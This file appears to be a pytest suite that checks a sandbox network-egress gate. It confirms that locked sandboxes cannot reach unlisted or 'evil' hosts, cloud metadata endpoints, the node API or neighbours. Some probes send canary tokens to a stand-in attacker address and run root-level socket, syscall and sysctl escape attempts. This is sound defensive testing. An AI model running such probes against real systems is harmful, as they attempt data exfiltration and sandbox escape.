"""The promises of the data path, each with the permitted twin beside it and the canary as the oracle."""

from __future__ import annotations

import json

import pytest
from declaw import ALL_TRAFFIC

import probes

LOCKED = {"allow_out": ["allowed.test"], "deny_out": [ALL_TRAFFIC]}
ALLOWED = "104.16.1.1"
ALLOWED_V6 = "2606:4700:1::1"
EVIL = "185.199.109.66"
EVIL_V6 = "2a0a:66::67"


def answered(result: dict) -> bool:
    return result["ok"] and "200 OK" in result["value"]


@pytest.fixture
def locked(sandbox):
    """A sandbox that may reach allowed.test and nothing else; one lookup has been made, so the name is bound."""
    box = sandbox(network=LOCKED)
    assert probes.lookup(box, "allowed.test")["value"]["addresses"] == [ALLOWED]
    return box


def one_block(lab, box, **expected):
    """Exactly one egress_blocked event matches; gives it."""

    def matches(event):
        return event["type"] == "egress_blocked" and all(event.get(k) == v for k, v in expected.items())

    events = lab.wait_for_events(box.sandbox_id, lambda events: any(matches(event) for event in events))
    found = [event for event in events if matches(event)]
    assert len(found) == 1 and found[0]["count"] == 1, found
    return found[0]


@pytest.mark.parametrize("target", [EVIL, EVIL_V6, "evil.test", "8.8.8.8"])
def test_a_raw_connect_to_what_is_not_listed_never_completes_a_handshake(lab, locked, target):
    before = len(lab.sink_lines())
    refused = probes.connect(locked, target, 443)
    assert refused["error"] in ("ConnectionRefusedError", "gaierror"), refused
    assert lab.sink_lines()[before:] == []
    assert probes.connect(locked, "allowed.test", 443)["ok"]


def test_a_refused_connect_is_one_event_with_the_rule_that_fired(lab, locked):
    probes.connect(locked, EVIL, 4444)
    event = one_block(lab, locked, address=EVIL, port=4444)
    assert event["rule"]["text"].startswith("deny_out[0]"), event
    assert event["protocol"] == "tcp" and event["decision"] == "deny"
    probes.connect(locked, "evil.test", 4445)
    event = one_block(lab, locked, host="evil.test", port=4445)
    assert event["host_source"] == "dns"


def test_the_name_of_an_allowed_host_with_another_address_reaches_only_the_allowed_hosts_own(lab, locked):
    token = probes.canary()
    result = probes.tls(locked, EVIL, "allowed.test", path=f"/{token}")
    assert not result["ok"]
    assert not [line for line in lab.seen(token) if line["destination"] == EVIL]
    assert answered(probes.tls(locked, ALLOWED, "allowed.test", path=f"/{token}"))
    assert {line["destination"] for line in lab.seen(token)} == {ALLOWED}


@pytest.mark.parametrize("name", ["evil.test", "sib.test", "allowed.test.evil.test", None])
def test_an_allowed_address_with_another_name_is_refused(lab, locked, name):
    token = probes.canary()
    refused = probes.tls(locked, ALLOWED, name, path=f"/{token}")
    assert not refused["ok"] and "ACCESS_DENIED" in refused["text"].upper().replace(" ", "_"), refused
    assert not lab.seen(token)
    reason = "no_sni" if name is None else "deny_entry"
    assert one_block(lab, locked, address=ALLOWED, port=443)["reason"] == reason
    assert answered(probes.tls(locked, ALLOWED, "allowed.test"))


def test_the_second_request_of_a_connection_is_judged(lab, locked):
    token = probes.canary()
    first = "GET /first HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
    second = f"GET /{token} HTTP/1.1\r\nHost: sib.test\r\n\r\n"
    result = probes.run(
        locked,
        f"""
        def attempt():
            connection = tcp({ALLOWED!r}, 80)
            connection.sendall({first.encode()!r})
            answer = connection.recv(65536)
            connection.sendall({second.encode()!r})
            refusal = b""
            while chunk := connection.recv(65536):
                refusal += chunk
            return [answer.decode(), refusal.decode()]
        say(outcome(attempt))
        """,
    )
    answer, refusal = result["value"]
    assert "200 OK" in answer
    assert " 403 " in refusal.splitlines()[0]
    body = json.loads(refusal.split("\r\n\r\n", 1)[1])
    assert body["error"] == "egress_blocked" and body["host"] == "sib.test", body
    assert not lab.seen(token)
    # The twin: a second request for the same host passes.
    again = probes.run(
        locked,
        f"""
        def attempt():
            connection = tcp({ALLOWED!r}, 80)
            answers = []
            for _ in range(2):
                connection.sendall({first.encode()!r})
                answers.append(connection.recv(65536).decode())
            return answers
        say(outcome(attempt))
        """,
    )
    assert [("200 OK" in answer) for answer in again["value"]] == [True, True]


def test_no_query_for_a_refused_name_leaves_the_node(lab, locked):
    for kind in [1, 28, 16, 5, 15, 33, 64, 65, 255, 10]:
        token = probes.canary()
        probes.lookup(locked, f"{token}.evil.test", kind)
        probes.lookup(locked, f"{token}.evil.test", kind, server="9.9.9.9")
        assert not lab.asked(token), kind
    assert probes.lookup(locked, "allowed.test")["value"]["addresses"] == [ALLOWED]
    assert lab.asked("allowed.test")


def test_any_resolver_address_answers_dns_and_nothing_else(lab, locked):
    for server in ["8.8.8.8", "1.1.1.1", "203.0.113.99"]:
        assert probes.lookup(locked, "allowed.test", server=server)["value"]["addresses"] == [ALLOWED]
        for port in [53, 80, 443, 853]:
            assert probes.connect(locked, server, port)["error"] == "ConnectionRefusedError", (server, port)
    udp = probes.run(
        locked,
        """
        def attempt():
            client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            client.settimeout(3)
            client.connect(("8.8.8.8", 123))
            client.send(b"canary")
            return client.recv(100).decode()
        say(outcome(attempt))
        """,
    )
    assert not udp["ok"] and udp["error"] != "TimeoutError", udp
    assert not [line for line in lab.sink_lines() if line["destination"] == "8.8.8.8"]


@pytest.mark.parametrize("entry", ["169.254.169.254", "169.254.169.254/32", "metadata.google.internal", "fd00:ec2::254"])
def test_a_policy_that_names_the_metadata_service_is_refused_at_creation(lab, entry):
    status, body = lab.request("POST", "/sandboxes", {"template": "python", "network": {"allow_out": ["a.example.com", entry]}})
    assert status == 400, body
    assert "allow_out[1]" in body["message"] and entry in body["message"]


def test_quic_to_a_named_host_is_refused_at_once(lab, locked):
    result = probes.run(
        locked,
        f"""
        def attempt():
            client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            client.settimeout(5)
            client.connect(({ALLOWED!r}, 443))
            begun = time.monotonic()
            try:
                client.send(b"\\xc3\\x00\\x00\\x00\\x01" + b"q" * 1200)
                client.recv(100)
            except Exception as error:
                return [type(error).__name__, time.monotonic() - begun]
        say(outcome(attempt))
        """,
    )
    name, took = result["value"]
    assert name != "TimeoutError" and took < 2, result
    assert not [line for line in lab.sink_lines() if line.get("protocol") == "udp" and line["destination"] == ALLOWED]


def test_root_inside_changes_nothing_of_the_gate(lab, locked):
    result = probes.run(
        locked,
        """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        def syscall(number, *arguments):
            done = libc.syscall(number, *arguments)
            return done if done >= 0 else -ctypes.get_errno()
        def sockets(*arguments):
            try:
                socket.socket(*arguments).close()
                return "created"
            except OSError as error:
                return error.errno
        def writes(path):
            try:
                with open(path, "w") as file:
                    file.write("1")
                return "written"
            except OSError as error:
                return error.errno
        def option(level, name, value):
            try:
                with socket.socket() as plain:
                    plain.setsockopt(level, name, value)
                return "set"
            except OSError as error:
                return error.errno
        say({
            "uid": os.getuid(),
            "netfilter": sockets(socket.AF_NETLINK, socket.SOCK_RAW, 12),
            "raw": sockets(socket.AF_INET, socket.SOCK_RAW, 1),
            "packet": sockets(socket.AF_PACKET, socket.SOCK_RAW, 0),
            "vsock": sockets(40, socket.SOCK_STREAM, 0),
            "io_uring": syscall(425, 8, 0),
            "unshare": syscall(272, 0x50000000),
            "bpf": syscall(321, 0, 0, 0),
            "mark": option(socket.SOL_SOCKET, 36, 2),
            "transparent": option(socket.IPPROTO_IP, 19, 1),
            "forwarding": writes("/proc/sys/net/ipv4/ip_forward"),
            "route_localnet": writes("/proc/sys/net/ipv4/conf/all/route_localnet"),
            "plain": sockets(socket.AF_INET, socket.SOCK_STREAM, 0),
        })
        """,
        user="root",
    )
    assert result.pop("uid") == 0
    assert result.pop("plain") == "created"
    for attempt, got in result.items():
        assert got not in ("created", "set", "written") and not (isinstance(got, int) and attempt in ("io_uring", "unshare", "bpf") and got >= 0), (attempt, got)
    assert not probes.connect(locked, EVIL, 443, user="root")["ok"]
    assert probes.connect(locked, "allowed.test", 443, user="root")["ok"]


def test_neighbours_the_api_and_the_services_of_the_machine_are_unreachable(lab, locked, sandbox):
    neighbour = sandbox(network=LOCKED)
    neighbour.commands.run("python3 -m http.server 8000", background=True, timeout=0)
    own = locked.commands.run("python3 -m http.server 8000 --directory /tmp", background=True, timeout=0)
    api_port = int(lab.variables["BAILIWICK_LAB_NODE_API"].rsplit(":", 1)[1])
    node = lab.variables["BAILIWICK_LAB_NODE"]
    for address, port in [
        (node, api_port), (node, 9100), ("100.64.0.1", 80), ("100.64.0.1", 3128), ("100.80.0.1", 8000), ("100.80.0.2", 8000),
        ("127.0.0.1", api_port), ("127.0.0.1", 9100), ("198.51.100.1", 53),
    ]:
        assert probes.connect(locked, address, port)["error"] == "ConnectionRefusedError", (address, port)
    assert own.pid
    twin = probes.run(
        locked,
        """
        deadline = time.monotonic() + 10
        while not (reached := outcome(lambda: bool(tcp("127.0.0.1", 8000))))["ok"] and time.monotonic() < deadline:
            time.sleep(0.05)
        say(reached)
        """,
    )
    assert twin["ok"], "the sandbox's own loopback works"


def test_an_open_sandbox_reaches_no_service_of_the_machine_either(lab, sandbox):
    box = sandbox()
    node = lab.variables["BAILIWICK_LAB_NODE"]
    for port in [9100, int(lab.variables["BAILIWICK_LAB_NODE_API"].rsplit(":", 1)[1])]:
        assert not probes.connect(box, node, port)["ok"]
    for private in ["10.0.0.1", "172.16.0.1", "192.168.1.1", "100.80.0.1"]:
        assert not probes.connect(box, private, 80)["ok"], private
    assert answered(probes.http(box, "93.184.216.34", "example.com"))


def test_the_policy_is_in_force_before_the_first_process(lab, sandbox):
    token = probes.canary()
    box = sandbox(network=LOCKED, envs={"TOKEN": token})
    done = box.commands.run(
        f"python3 -c \"import socket; socket.create_connection(('{EVIL}', 80), 3).sendall(b'{token}')\"", timeout=20
    )
    assert done.exit_code != 0 and "refused" in done.stderr
    assert not lab.seen(token)


def _client_hello(name: str) -> bytes:
    """The bytes of a real ClientHello for `name`."""
    import ssl

    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=name)
    with pytest.raises(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


@pytest.mark.parametrize("name,passes", [("allowed.test", True), ("evil.test", False)])
@pytest.mark.parametrize("shape", ["segments", "records"])
def test_a_client_hello_in_pieces_is_read_right(lab, locked, name, passes, shape):
    hello = _client_hello(name)
    if shape == "records":
        body = hello[5:]
        pieces = [b"".join(b"\x16\x03\x01\x00\x01" + body[at : at + 1] for at in range(len(body)))]
    else:
        pieces = [hello[at : at + 1] for at in range(len(hello))]
    result = probes.run(
        locked,
        f"""
        def attempt():
            connection = tcp({ALLOWED!r}, 443)
            connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for piece in {pieces!r}:
                connection.sendall(piece)
            return list(connection.recv(7))
        say(outcome(attempt))
        """,
    )
    kind, *_, level, description = result["value"]
    if passes:
        assert kind == 22, "a handshake record of the server"
    else:
        assert (kind, level, description) == (21, 2, 49), "a fatal alert: access_denied"


def test_http_with_the_host_of_an_allowed_name_goes_to_its_own_address_only(lab, locked):
    token = probes.canary()
    assert answered(probes.http(locked, ALLOWED, "allowed.test", body=token))
    assert {line["destination"] for line in lab.seen(token)} == {ALLOWED}
    token = probes.canary()
    refused = probes.http(locked, ALLOWED, "evil.test", body=token)
    assert " 403 " in refused["value"].splitlines()[0], refused
    assert not lab.seen(token)


def test_a_name_that_turns_to_the_metadata_service_is_filtered(lab, sandbox):
    box = sandbox(network={"allow_out": ["rebind.test", "private.test", "mixed.test", "metadata.test", "loopback.test"]})
    for _ in range(4):
        found = probes.lookup(box, "rebind.test")["value"]["addresses"]
        assert found in (["104.16.3.3"], []), found
    assert probes.lookup(box, "mixed.test")["value"]["addresses"] == ["104.16.4.4"]
    for name in ["private.test", "metadata.test", "loopback.test"]:
        assert probes.lookup(box, name)["value"]["addresses"] == [], name
    token = probes.canary()
    probes.http(box, "169.254.169.254", "rebind.test", path=f"/{token}")
    assert not lab.seen(token)


def test_ipv6_is_judged_by_the_same_rules(lab, locked):
    assert answered(probes.tls(locked, "allowed.test", "allowed.test"))
    found = probes.lookup(locked, "allowed.test", 28)
    assert found["value"]["answers"] == 1, found
    assert answered(probes.tls(locked, ALLOWED_V6, "allowed.test"))
    assert not probes.tls(locked, ALLOWED_V6, "evil.test")["ok"]
    assert probes.connect(locked, EVIL_V6, 443)["error"] == "ConnectionRefusedError"


def numbers(lab) -> dict[str, float]:
    """What `GET /metrics` tells, by name with labels."""
    status, payload = lab.request("GET", "/metrics")
    assert status == 200 and payload.endswith(b"# EOF\n"), payload
    lines = [line for line in payload.decode().splitlines() if not line.startswith("#")]
    return {name: float(value) for name, value in (line.rsplit(" ", 1) for line in lines)}


def test_the_numbers_of_the_service_grow_with_what_happens(lab, sandbox):
    before = numbers(lab)
    box = sandbox(network=LOCKED)
    assert probes.lookup(box, "allowed.test")["value"]["addresses"] == [ALLOWED]
    assert answered(probes.tls(box, ALLOWED, "allowed.test"))
    probes.connect(box, EVIL, 4444)
    one_block(lab, box, address=EVIL, port=4444)
    during = numbers(lab)
    grown = {name: value - before.get(name, 0) for name, value in during.items()}
    assert grown['bailiwick_decisions_total{kind="egress_blocked"}'] == 1
    assert grown['bailiwick_decisions_total{kind="egress_allowed"}'] == 1
    assert grown["bailiwick_dns_queries_total"] == 1
    assert grown["bailiwick_sandboxes_created_total"] == 1
    assert grown['bailiwick_sandboxes{state="running"}'] == 1
    assert grown["bailiwick_rule_proofs_total"] == 1
    assert during["bailiwick_rule_proofs_failed_total"] == 0
    box.kill(wait=True)
    after = numbers(lab)
    ended = 'bailiwick_sandboxes_ended_total{reason="requested"}'
    assert after[ended] == during[ended] + 1
    assert after['bailiwick_sandboxes{state="running"}'] == before['bailiwick_sandboxes{state="running"}']
    assert not [name for name in after if name.startswith("bailiwick_audit_gaps") and "kernel" in name], after
    assert lab.request("GET", "/metrics", headers={"X-API-Key": None})[0] == 401
